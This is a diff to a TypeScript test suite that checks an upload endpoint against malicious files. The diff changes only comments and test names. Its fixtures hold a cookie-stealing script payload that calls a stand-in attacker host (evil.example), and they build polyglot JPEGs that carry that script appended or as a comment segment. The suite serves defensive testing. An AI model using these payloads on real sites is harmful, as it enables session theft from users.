@@ -16,7 +16,7 @@ const [jpeg, png, webp] = await Promise.all([
 const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
 const svg = (inside: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40">${inside}</svg>`);
-/** A comment of a JPEG, which decoders pass over and other readers may run. */
+/** A comment segment of a JPEG, which decoders skip but other readers may execute. */
 const commented = (text: string) => {
   const head = Buffer.from([0xff, 0xfe, 0, 0]);
   head.writeUInt16BE(text.length + 2, 2);
@@ -24,7 +24,7 @@ const commented = (text: string) => {
 };
 
 const image = 'upload.not_an_image';
-/** Each as sent, under the type that it claims. */
+/** Files with the content type that they claim, and the expected refusal. */
 const refused: readonly (readonly [name: string, body: Buffer, type: string, told: string])[] = [
   ['a page that says it is a JPEG', Buffer.from(`<!doctype html>${script}`), 'image/jpeg', `415 ${image}`],
   ['a program that says it is a PNG', Buffer.from(`MZ${'\0'.repeat(200)}`), 'image/png', `415 ${image}`],
@@ -58,7 +58,7 @@ const refused: readonly (readonly [name: string, body: Buffer, type: string, tol
     '413 upload.too_large',
   ],
 ];
-/** Valid images that are something else, too. */
+/** Valid images that are also something else. */
 const polyglots: readonly (readonly [name: string, body: Buffer, type: string])[] = [
   ['a JPEG with a script behind it', Buffer.concat([jpeg, Buffer.from(script)]), 'image/jpeg'],
   ['a JPEG with a script as its comment', commented(`*/=1;${script}`), 'image/jpeg'],
@@ -100,7 +100,7 @@ describe('attacks by uploads', () => {
     );
   const stored = async (use: 'promotion' | undefined) =>
     String(((await upload(jpeg, 'image/jpeg', use)).body as { value: { id: string } }).value.id);
-  /** What its owner is served. */
+  /** The image as its owner receives it. */
   const served = (id: string) =>
     stage.server.send({
       path: `/media/uploads/${id}`,
@@ -115,7 +115,7 @@ describe('attacks by uploads', () => {
     test.each(refused)('%s is refused, and nothing is stored', async (_name, body, type, told) => {
       const before = await count('upload');
       const answer = await upload(body, type, use);
-      // Applications take JPEG and PNG alone.
+      // Applications accept JPEG and PNG only.
       const isOther = use === 'promotion' && type === 'image/webp';
       expect(`${answer.status} ${(answer.body as { code?: string }).code}`).toBe(
         isOther ? `415 ${image}` : told,
@@ -123,7 +123,7 @@ describe('attacks by uploads', () => {
       expect(await count('upload')).toBe(before);
     });
 
-    test.each(polyglots)('%s is drawn anew, and what it carried is gone', async (_name, body, type) => {
+    test.each(polyglots)('%s is re-encoded without its payload', async (_name, body, type) => {
       const answer = await upload(body, type, use);
       expect(answer.status).toBe(200);
       const { id } = (answer.body as { value: { id: string } }).value;
@@ -135,7 +135,7 @@ describe('attacks by uploads', () => {
     });
   });
 
-  test('four pictures are too many for feedback and for an application, and one is all an avatar has', async () => {
+  test('four images are too many for feedback and for an application; an avatar is one image', async () => {
     expect(limits.uploadBytes).toBe(5 * 1024 * 1024);
     const pictures = [await stored('promotion'), await stored('promotion'), await stored('promotion')];
     const images = [...pictures, await stored(undefined)];
